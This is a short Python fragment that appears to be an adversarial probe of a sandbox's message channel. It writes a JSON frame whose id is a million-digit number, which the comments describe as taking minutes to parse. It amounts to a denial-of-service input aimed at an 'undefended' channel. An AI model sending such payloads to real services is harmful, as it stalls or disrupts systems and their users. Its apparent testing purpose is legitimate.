# ruff: noqa
# idea: a number that takes minutes to read
# undefended: channel
# sandbox: ended protocol
os.write(CHANNEL, frame(b'{"sizes": [], "id": ' + b"9" * 1_000_000 + b"}"))
